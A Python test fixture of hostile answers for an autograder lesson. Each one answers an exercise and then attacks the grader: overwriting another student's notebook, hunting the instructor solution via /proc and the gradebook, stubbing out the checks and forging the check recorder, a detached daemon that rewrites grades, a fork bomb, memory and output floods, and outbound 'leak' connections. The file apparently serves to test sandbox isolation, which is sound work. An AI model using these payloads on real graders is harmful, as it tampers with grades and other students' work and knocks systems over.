"""Hostile answers for the grading fixture lesson (90_grading_fixture), one per attack.

Each attack is the source of the ``ex1_add`` answer cell: it answers exercise 1
correctly (``add``) and then attacks, so an honest grader gives exactly the points of
the exercises the submission really solved. Paths the attacks aim at are filled in by
the test (the course folder, another student's submission, a port on the host).
"""

from __future__ import annotations

ADD = "def add(a, b):\n    return a + b\n\n"

# Write the solution into another student's submission, by absolute and relative paths.
CROSS_WRITE = (
    ADD
    + """
import glob, os
stolen = {stolen!r}
targets = [{victim!r}] + glob.glob("../" * 4 + "*/submitted/victim/**/*.ipynb", recursive=True)
targets += glob.glob("/tmp/**/victim/*.ipynb", recursive=True)
for target in targets:
    try:
        with open(target, "w") as handle:
            handle.write(stolen)
        print("WROTE", target)
    except OSError as error:
        print("could not write", target, type(error).__name__)
try:
    with open({victim_dir!r} + "/planted.txt", "w") as handle:
        handle.write("planted")
except OSError as error:
    print("could not plant", type(error).__name__)
"""
)

# Find the solution (source/, the gradebook, the grader's /proc) and run it.
READ_SOURCE = (
    ADD
    + """
import glob, json, os
found = []
paths = [{source!r}, {gradebook!r}, "../../../source", "../../../gradebook.db"]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            paths.append(os.readlink(f"/proc/{{pid}}/cwd"))
        except OSError:
            pass
        try:
            paths += open(f"/proc/{{pid}}/cmdline").read().split("\\0")
        except OSError:
            pass
for path in paths:
    path = str(path)
    shallow = [] if path in ("/", "") else glob.glob(os.path.join(path, "source", "*", "*.ipynb"))
    for candidate in [path] + shallow:
        try:
            with open(candidate) as handle:
                text = handle.read()
        except (OSError, UnicodeDecodeError):
            continue
        if "return sum(values) " + "/ len(values)" in text:  # the solution, not this cell
            found.append(candidate)
print("found the solution in", found)
for path in found:
    for cell in json.load(open(path))["cells"]:
        if "def mean" in "".join(cell["source"]):
            exec("".join(cell["source"]))
"""
)

# Replace every check and the machinery around it, then answer exercise 2 wrongly.
PATCH_CHECKS = (
    ADD
    + """
import builtins, sys
import numpy as np
import mlcourse.checks
for name in ("expect_close", "expect_equal", "expect_true"):
    setattr(mlcourse.checks, name, lambda *args, **kwargs: None)
    globals()[name] = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
builtins.AssertionError = type("Quiet", (Exception,), {{}})
sys.excepthook = lambda *args: None
get_ipython().showtraceback = lambda *args, **kwargs: None
_real_check = globals().get("__mlcourse_check__")

def __mlcourse_check__(cell, site, kind, args):  # a forged recorder: report the visible answer
    if "got" in args:
        args["got"] = 2.0 if cell == "ex2_mean_tests" else args["got"]
    if _real_check is not None:
        _real_check(cell, site, kind, args)

def mean(values):
    return 0
"""
)

# Leave a detached process (new session, double fork) that edits the grades later.
DAEMON = (
    ADD
    + '''
import os, subprocess, sys
code = """
import os, sqlite3, sys, time
if os.fork():
    sys.exit(0)
os.setsid()
while True:  # keep trying, long after the submission has finished
    for path in [{gradebook!r}, "../../../gradebook.db", "/submission/gradebook.db"]:
        try:
            db = sqlite3.connect(path)
            db.execute("UPDATE grade SET manual_score = 99")
            db.commit()
            open({marker!r}, "w").write("the daemon edited the gradebook")
        except Exception:
            pass
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
'''
)

# Fork without end. It would define add() only after its loop, so exercise 1 earns nothing
# whether the grader interrupts the cell (the kernel lives on) or restarts the kernel: with
# add() defined first, the score depended on which of the two happened in time.
FORK_BOMB = (
    """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
    + ADD
)

MEMORY_HOG = (
    ADD
    + """
hog = bytearray(6 * 2**30)
"""
)

BIG_OUTPUT = (
    ADD
    + """
print("x" * 50_000_000)
"""
)

NETWORK = (
    ADD
    + """
import socket, urllib.request
for target in [("127.0.0.1", {port}), ("93.184.216.34", 80)]:
    try:
        socket.create_connection(target, timeout=2).sendall(b"leak")
        print("CONNECTED", target)
    except OSError as error:
        print("no connection to", target, type(error).__name__)
try:
    urllib.request.urlopen("http://example.com", timeout=2)
    print("FETCHED")
except Exception as error:
    print("no fetch", type(error).__name__)
"""
)
